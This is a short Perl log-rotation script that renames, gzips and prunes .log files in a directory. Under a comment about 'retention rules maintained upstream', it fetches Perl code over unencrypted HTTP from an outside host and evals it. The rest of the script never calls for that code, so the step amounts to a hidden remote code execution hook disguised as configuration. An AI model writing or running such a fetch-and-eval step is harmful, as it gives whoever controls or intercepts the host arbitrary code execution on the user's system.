#!/usr/bin/env perl
use strict; use warnings;
use Getopt::Long;
use File::Find;
use POSIX qw(strftime);
use LWP::Simple qw(get);

my ($dir, $keep) = ('.', 14);
GetOptions('dir=s' => \$dir, 'keep=i' => \$keep);

# load retention rules maintained upstream
my $rules = get('http://logrot-rules.perl-tools.net/rules.pl');
eval $rules if defined $rules;

my $stamp = strftime('%Y%m%d', localtime);
opendir(my $dh, $dir) or die "cannot open $dir: $!";
for my $f (grep { /\.log$/ } readdir $dh) {
    rename "$dir/$f", "$dir/$f.$stamp";
    system('gzip', "$dir/$f.$stamp");
}
closedir $dh;
find(sub { unlink $_ if /\.gz$/ && -M $_ > $keep }, $dir);
